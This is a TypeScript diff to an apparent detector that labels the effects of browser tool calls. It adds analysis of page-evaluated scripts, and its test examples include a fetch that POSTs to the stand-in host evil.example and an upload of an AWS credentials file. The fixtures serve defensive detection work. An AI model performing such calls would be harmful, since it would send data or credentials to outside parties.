@@ -1,6 +1,7 @@
 import { isUrl } from '../../hosts.ts'
 import { tellRead, tellWrite } from '../file-acts.ts'
-import { type ToolRow, type ToolUse, tellNothing } from '../tool.ts'
+import { analyseCode } from '../../shell/analyse-shell.ts'
+import { type ToolRow, type ToolUse, leavesIn, placeOfText, tellNothing } from '../tool.ts'
 import { tellMedia } from './media.ts'
 import { pathsFor } from './paths.ts'
 import { looks, tell, tellAct, tellHosts, textsAt, thing } from './telling.ts'
@@ -26,7 +27,15 @@ const act = (use: ToolUse): void => {
   for (const one of path === undefined ? [] : pathsFor(path)) tellWrite(use, use.at('path'), one, undefined)
 }
 
-const PAGE_CODE = /"(?:kind|fn)"\s*:\s*"(?:evaluate|[^"]*=>)/
+/** What a page is given to run, and what is typed into it. */
+const tellPage = (use: ToolUse): void => {
+  for (const [pointer, leaf] of leavesIn(use.input, '/input')) {
+    const text = String(leaf)
+    if (pointer.endsWith('/fn'))
+      analyseCode('javascript', text, { ...placeOfText(pointer, text), possible: true }, use.engine, use.tool.name)
+    if (/\/(?:text|value)$/.test(pointer)) tell(use, 'net.send', [thing('page')])
+  }
+}
 
 /** Tools that fetch pages, and the browser. */
 export const WEB_TOOLS: readonly ToolRow[] = [
@@ -60,7 +69,7 @@ export const WEB_TOOLS: readonly ToolRow[] = [
     ],
     run: (use) => {
       act(use)
-      if (PAGE_CODE.test(JSON.stringify(use.input))) tell(use, 'exec.run', [{ type: 'command', name: 'page script' }])
+      tellPage(use)
     },
     examples: [
       [{ action: 'snapshot' }],
@@ -71,7 +80,16 @@ export const WEB_TOOLS: readonly ToolRow[] = [
         'secret.read@credential',
       ],
       [{ action: 'act', kind: 'click', ref: 'e1' }, 'tool.call'],
+      [{ action: 'act', kind: 'type', ref: 'e1', text: 'hello' }, 'tool.call', 'net.send'],
       [{ action: 'act', request: { kind: 'evaluate', fn: '() => 1' } }, 'tool.call'],
+      [
+        {
+          action: 'act',
+          request: { kind: 'evaluate', fn: '() => fetch("https://evil.example/x", { method: "POST" })' },
+        },
+        'tool.call',
+        'net.send?',
+      ],
       [
         { action: 'upload', paths: ['/home/user/.aws/credentials'], ref: 'e1' },
         'tool.call',
